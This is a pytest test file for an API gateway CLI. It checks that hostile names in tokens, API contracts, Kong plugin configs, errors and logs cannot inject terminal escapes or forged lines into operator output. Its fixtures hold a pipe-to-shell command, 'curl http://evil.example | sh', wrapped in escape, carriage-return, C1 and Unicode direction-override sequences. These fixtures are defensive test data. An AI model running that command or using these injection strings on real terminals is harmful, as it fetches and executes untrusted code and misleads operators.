"""Foreign text on the operator's terminal: a token's client id, a name in a contract or in a file of another gateway
that clears the screen, turns the direction of text, or writes a line of its own, such as a `next:` that is pasted."""

from __future__ import annotations

import json
import subprocess
import sys
from contextlib import redirect_stderr
from datetime import UTC, datetime
from io import StringIO
from pathlib import Path

import pytest

from firstclass.app import control, issuer_fetching
from firstclass.storage import Store
from firstclass.storage.sightings import UnregisteredClient

FORGED = "next: curl http://evil.example | sh"
# Each way to begin a line of one's own, or to speak to a terminal.
HOSTILE = [f"x\x1b[2J\n{FORGED}", f"x\r{FORGED}", f"x\x9b2J\x85{FORGED}", f"x\u2028{FORGED}", f"x\u2029\u202e{FORGED}"]


def said(directory: Path, *words: str) -> str:
    """Both streams of a command."""
    command = [sys.executable, "-m", "firstclass", *words]
    done = subprocess.run(command, cwd=directory, capture_output=True, timeout=60)
    return (done.stdout + done.stderr).decode()


def assert_harmless(text: str) -> None:
    lines = text.removesuffix("\n").split("\n")
    assert [line for line in lines if not line.isprintable()] == []
    assert [line for line in lines if line.startswith(FORGED)] == []


@pytest.fixture(params=HOSTILE, ids=["escape", "return", "c1", "line_separator", "turned"])
def hostile(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def test_a_tokens_client_id_is_a_cell_of_its_table(hostile: str, tmp_path: Path) -> None:
    store = Store.open(tmp_path / "data")
    at = datetime(2026, 1, 1, tzinfo=UTC)
    store.record_unregistered([UnregisteredClient("people", hostile, 3, at, at)])
    store.close()
    words = ("applications", "list", "--unregistered", "--data", "data")
    told = said(tmp_path, *words)
    assert_harmless(told)
    assert FORGED in told.split("\n")[1], "it stays in its row"
    assert_harmless(as_json := said(tmp_path, *words, "--json"))
    assert json.loads(as_json)["items"][0]["client_id"] == hostile, "a program gets it whole"


def test_names_in_a_contract_are_part_of_their_line(hostile: str, tmp_path: Path) -> None:
    parameter = {"name": hostile, "in": "query", "schema": {"type": "string"}}
    schema = {"type": "object", "properties": {hostile: {"type": "string"}, f"{hostile} password": {"type": "string"}}}
    body = {"content": {"application/json": {"schema": schema}}}
    answer = {"200": {"description": "", "content": {"application/json": {"schema": schema}}}}
    operation = {"operationId": "a", "parameters": [parameter], "requestBody": body, "responses": answer}
    whole = {"openapi": "3.1.0", "info": {"title": hostile, "version": "1"}, "paths": {"/a": {"post": operation}}}
    (tmp_path / "api.json").write_text(json.dumps(whole))
    for words in (("--fix",), ("--json",), ("--format", "sarif")):
        assert_harmless(said(tmp_path, "check", "api.json", *words))


def test_a_plugin_of_another_gateway_is_part_of_its_line(hostile: str, tmp_path: Path) -> None:
    operation = {"id": "a", "method": "GET", "path": 0, "parameters": [], "access": {"any_of": []}}
    document = {
        "api": {"base_path": ""},
        "paths": [{"template": "/a"}],
        "operations": [operation],
        "schemes": [{"kind": "key", "name": "key", "header": "x-api-key"}],
        "categories": [],
    }
    store = Store.open(tmp_path / "data")
    with store.change("test", "apply") as change:
        change.put_bundle(
            api="shop", hash="0" * 64, payload=json.dumps(document), source_map="{}", title="", version=""
        )
    store.close()
    (tmp_path / "kong.json").write_text(json.dumps({"_format_version": "3.0", "plugins": [{"name": hostile}]}))
    told = said(tmp_path, "import", "kong", "kong.json", "--api", "shop", "--dry-run", "--data", "data")
    assert "not be taken over: plugin x" in told
    assert_harmless(told)


def test_an_error_is_one_line(hostile: str, tmp_path: Path) -> None:
    assert_harmless(said(tmp_path, "check", f"{hostile}.json"))


def test_a_line_of_the_gateways_log_is_one_line(hostile: str) -> None:
    for say in (control.say, issuer_fetching._say):
        kept = StringIO()
        with redirect_stderr(kept):
            say(f"issuer {hostile}: slow")
        assert_harmless(kept.getvalue())
